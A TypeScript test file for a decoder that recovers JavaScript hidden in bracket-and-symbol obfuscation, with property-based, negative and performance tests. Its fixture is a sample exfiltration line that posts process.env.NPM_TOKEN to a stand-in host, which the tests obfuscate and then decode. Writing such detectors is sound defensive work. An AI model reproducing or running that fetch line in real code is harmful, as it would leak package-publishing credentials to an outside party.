import { assert, constantFrom, integer, property, string } from 'fast-check';
import vm from 'node:vm';
import { describe, expect, test } from 'vitest';
import { codesInSymbols } from '../../../src/languages/javascript/interpret/symbols.ts';
import { spellForEval, spellInSymbols } from '../../support/symbols.ts';

const code = "fetch('https://load.example/x', { body: process.env.NPM_TOKEN });";

describe('code of symbols alone', () => {
  test('is spelled by the test as engines understand it', () => {
    expect(vm.runInNewContext(spellInSymbols("return 'a' + 1 + 'Z'"))).toBe('a1Z');
    expect(spellInSymbols(code)).toMatch(/^[[\]()!+]+$/);
  });

  test('is read as the text that it runs', () => {
    expect(codesInSymbols(spellInSymbols(code))).toEqual([code]);
  });

  test('is read whatever the text, and across lines', () => {
    const ascii = string({
      unit: integer({ min: 32, max: 126 }).map((one) => String.fromCharCode(one)),
      minLength: 1,
      maxLength: 12,
    });
    assert(
      property(ascii, (text) => {
        const spelled = spellInSymbols(`x(${text}`);
        expect(codesInSymbols(spelled.replaceAll(')[', ')\n['))).toEqual([`x(${text}`]);
      }),
      { seed: 7, numRuns: 40 },
    );
  });

  test('is read when eval runs it', () => {
    expect(codesInSymbols(spellForEval(code))).toEqual([code]);
  });

  test.each([
    ['a text that nobody runs', '(![]+[])[+[]]+(!![]+[])[+[]]'],
    ['lists', '[[],[]]'],
    ['brackets without an end', '[[[[((((!+'],
    ['nothing', ''],
    ['a call of what is no function', '[][[]]()'],
    ['a key of nothing', '[][[]][[]][[]]'],
  ])('is none in %s', (_, text) => {
    expect(codesInSymbols(text)).toEqual([]);
  });

  test('is read within limits', () => {
    const start = performance.now();
    expect(codesInSymbols('['.repeat(900_000))).toEqual([]);
    expect(codesInSymbols('!'.repeat(900_000))).toEqual([]);
    expect(codesInSymbols('+[]'.repeat(300_000))).toEqual([]);
    expect(codesInSymbols(`[]${'[![]+[]]'.repeat(100_000)}`)).toEqual([]);
    expect(performance.now() - start).toBeLessThan(10_000);
  });

  test('never throws', () => {
    const signs = string({
      unit: constantFrom('[', ']', '(', ')', '!', '+', '[]', '![]', '(![]+[])'),
      maxLength: 80,
    });
    assert(
      property(signs, (text) => {
        expect(codesInSymbols(text)).toEqual(codesInSymbols(text));
      }),
      { seed: 11, numRuns: 2_000 },
    );
  });
});
